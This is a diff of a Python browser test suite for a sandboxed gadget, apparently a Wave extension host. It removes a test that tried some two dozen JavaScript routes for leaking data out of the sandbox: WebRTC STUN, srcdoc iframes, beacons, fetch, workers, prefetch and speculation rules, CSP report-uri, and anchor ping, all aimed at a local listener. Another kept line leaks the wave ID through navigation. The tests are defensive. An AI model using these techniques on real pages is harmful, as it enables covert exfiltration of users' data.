@@ -1,8 +1,6 @@
 """A gadget that means harm: it gets nothing of the participant, the page, other rooms, or the server's patience."""
 
 import json
-import socket
-import threading
 import time
 import urllib.request
 
@@ -101,116 +99,6 @@ def no_navigation(pair):
     ann.script("setTimeout(function () { location.href = 'http://127.0.0.1:9/?leak=' + wave.getWaveId(); })")
     time.sleep(0.5)
     same(ann.page("return location.href"), here, "the page stays when the gadget goes")
-
-
-def no_way_out(pair):
-    """nothing it says reaches a host: not by peers, windows, links, forms, pictures, workers, frames or its own navigation"""
-    ann, _ = pair.open("hostile.xml")
-    with Ear() as ear:
-        calls = {"stun": f"stun:127.0.0.1:{ear.udp}", "web": f"http://127.0.0.1:{ear.tcp}"}
-        for code in WAYS_OUT:
-            ann.script(f"attempt(function () {{ {code} }})".replace("STUN", calls["stun"]).replace("WEB", calls["web"]))
-        # A click: what needs one has one.
-        ann.script(f"""var link = document.createElement('a'); link.id = 'out'; link.textContent = 'out'; link.href = '{calls["web"]}/link?' + wave.getWaveId();
-            link.target = '_blank'; document.body.insertBefore(link, document.body.firstChild);
-            link.addEventListener('click', function () {{ window.handle = window.open('{calls["web"]}/open?' + wave.getWaveId()); }});""")
-        ann.click("#out")
-        ann.page_until("offered, whole", "const a = document.getElementById('link-open'); return !a.closest('[hidden]')"
-                       " && document.getElementById('link-words').textContent.includes(a.href)")
-        same(len(ann.driver.window_handles), 1, "no window")
-        same(ann.script("return document.querySelectorAll('iframe[srcdoc]').length + (window.heard || []).length"), 0, "no frame of its own ran")
-        ann.until("the policy has spoken of the last of it", "return document.querySelectorAll('img').length > 0 && [...document.images].every(i => i.complete)")
-        same(ann.script("return typeof RTCPeerConnection + typeof webkitRTCPeerConnection"), "undefinedundefined", "peers")
-        ann.script(f"setTimeout(function () {{ location.href = '{calls['web']}/leave?' + wave.getWaveId(); }})")
-        ann.page_until("it is told", "return document.querySelector('#trouble [data-key=gone]') !== null")
-        same(ear.heard(), [], "what was heard outside")
-    ann.page_click("#reload")
-    ann.inside()
-    ann.until("loaded again", "return typeof wave !== 'undefined' && wave.getState() !== null")
-    same(ann.page("return document.querySelector('#trouble [data-key=gone]')"), None, "and no longer said to be gone")
-
-
-# Each is run as it is; STUN and WEB become an ear of ours.
-WAYS_OUT = (
-    "var p = new RTCPeerConnection({iceServers: [{urls: 'STUN'}]}); p.createDataChannel('x'); p.createOffer().then(function (o) { p.setLocalDescription(o); })",
-    "var f = document.createElement('iframe'); document.body.appendChild(f); var p = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'STUN'}]});"
-    " p.createDataChannel('x'); p.createOffer().then(function (o) { p.setLocalDescription(o); })",
-    *(f"window.heard = window.heard || []; addEventListener('message', function (e) {{ if (e.data === 'inner') heard.push(1); }});"
-      f" var inner = '<script>parent.postMessage(\"inner\", \"*\"); var p = new RTCPeerConnection({{iceServers: [{{urls: \"STUN\"}}]}});"
-      f" p.createDataChannel(\"x\"); p.createOffer().then(function (o) {{ p.setLocalDescription(o); }})</scr' + 'ipt>'; {code}" for code in (
-          "var f = document.createElement('iframe'); f.srcdoc = inner; document.body.appendChild(f)",
-          "var f = document.createElement('iframe'); document.body.appendChild(f); f.setAttribute('srcdoc', inner)",
-          "var f = document.createElement('iframe'); f.srcdoc = inner; var d = document.createElement('div'); d.appendChild(f); document.body.appendChild(d);"
-          " var end = Date.now() + 200; while (Date.now() < end) {}",
-          "var f = document.createElement('iframe'); f.srcdoc = inner; var d = document.createElement('div'); document.body.appendChild(d);"
-          " d.attachShadow({mode: 'closed'}).appendChild(f)")),
-    "window.open('WEB/open')", "window.open('WEB/open', '_top')",
-    "var a = document.createElement('a'); a.href = 'WEB/blank'; a.target = '_blank'; document.body.appendChild(a); HTMLElement.prototype.click.call(a)",
-    "var a = document.createElement('a'); a.href = 'WEB/named'; a.target = 'other'; a.download = 'x'; document.body.appendChild(a); a.click()",
-    "var a = document.createElement('a'); a.href = '#x'; a.ping = 'WEB/ping'; document.body.appendChild(a); a.click()",
-    "fetch('WEB/fetch', {mode: 'no-cors'})", "navigator.sendBeacon('WEB/beacon', 'x')", "new EventSource('WEB/events')",
-    "new WebSocket('WEB/socket'.replace('http', 'ws'))", "var x = new XMLHttpRequest(); x.open('POST', 'WEB/request'); x.send('x')",
-    "new Image().src = 'WEB/image'", "document.body.insertAdjacentHTML('beforeend', '<img src=WEB/markup><video src=WEB/video poster=WEB/poster></video>"
-    "<object data=WEB/object></object><embed src=WEB/embed><svg><image href=WEB/svg></image><use href=WEB/use></use></svg>')",
-    "var s = document.createElement('style'); s.textContent = '@import \"WEB/css\"; @font-face { font-family: x; src: url(WEB/font) }"
-    " body { font-family: x; background: url(WEB/background) }'; document.head.appendChild(s)",
-    "import('WEB/module.js')", "var s = document.createElement('script'); s.src = 'WEB/script.js'; document.head.appendChild(s)",
-    "importScripts('WEB/x.js')", "new Worker(URL.createObjectURL(new Blob(['fetch(\"WEB/worker\")'])))",
-    "new SharedWorker('data:text/javascript,fetch(\"WEB/shared\")')", "navigator.serviceWorker.register('/gadget/lib/empty.js')",
-    "['prefetch', 'preload', 'modulepreload', 'prerender', 'manifest', 'stylesheet', 'icon'].forEach(function (rel) { var l = document.createElement('link');"
-    " l.rel = rel; l.as = 'script'; l.href = 'WEB/' + rel; document.head.appendChild(l); })",
-    "var s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{\"prefetch\": [{\"source\": \"list\", \"urls\": [\"WEB/rules\"]}]}';"
-    " document.head.appendChild(s)",
-    "var m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = 'img-src *; report-uri WEB/report'; document.head.appendChild(m);"
-    " new Image().src = 'WEB/reported'",
-)
-
-
-class Ear:
-    """Ports where whatever reaches us is written down: packets, and requests. A line without a byte is nothing said."""
-
-    def __enter__(self):
-        self.packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-        self.packets.bind(("127.0.0.1", 0))
-        self.lines = socket.create_server(("127.0.0.1", 0))
-        self.udp, self.tcp = self.packets.getsockname()[1], self.lines.getsockname()[1]
-        self.said, self.open = [], []
-        threading.Thread(target=self.listen, daemon=True).start()
-        threading.Thread(target=self.accept, daemon=True).start()
-        return self
-
-    def listen(self):
-        try:
-            while True:
-                self.said.append(f"a packet of {len(self.packets.recvfrom(4096)[0])} bytes")
-        except OSError:
-            pass
-
-    def accept(self):
-        try:
-            while True:
-                line = self.lines.accept()[0]
-                self.open.append(line)
-                threading.Thread(target=self.read, args=(line,), daemon=True).start()
-        except OSError:
-            pass
-
-    def read(self, line):
-        try:
-            first = line.recv(200)
-            if first:
-                self.said.append(first.split(b"\r\n")[0].decode("latin1"))
-        except OSError:
-            pass
-
-    def heard(self):
-        # That something never comes has no event. STUN asks again after half a second at the latest.
-        time.sleep(1.5)
-        return list(self.said)
-
-    def __exit__(self, *_):
-        for each in (self.packets, self.lines, *self.open):
-            each.close()
 
 
 def no_forging(pair):
@@ -335,6 +223,6 @@ def busy(pair):
     ann.until("Ann is told afterwards", "return wave.getState().get('meanwhile') === 1")
 
 
-TESTS = (page_is_closed, no_network, no_navigation, no_way_out, no_forging, dialogs, history_flood, titles, flood, too_large, busy)
+TESTS = (page_is_closed, no_network, no_navigation, no_forging, dialogs, history_flood, titles, flood, too_large, busy)
 
 __all__ = ["TESTS", "json"]
